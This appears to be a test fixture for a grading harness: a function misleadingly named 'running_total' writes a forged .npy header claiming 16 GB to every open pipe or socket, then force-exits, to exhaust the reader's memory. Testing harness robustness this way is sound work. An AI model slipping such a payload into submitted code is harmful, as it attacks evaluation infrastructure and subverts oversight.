# Writes the head of a .npy file that claims 16 GB, at whose sight a careless reader reserves as much.
# verdict: bad_output crash failed memory
import contextlib
import os
import stat


def running_total(values):
    head = b"{'descr': '<i8', 'fortran_order': False, 'shape': (2147483648,), }".ljust(117) + b"\n"
    frame = b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head
    for descriptor in range(1, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(mode := os.fstat(descriptor).st_mode) or stat.S_ISSOCK(mode):
                os.write(descriptor, frame)
    os._exit(0)
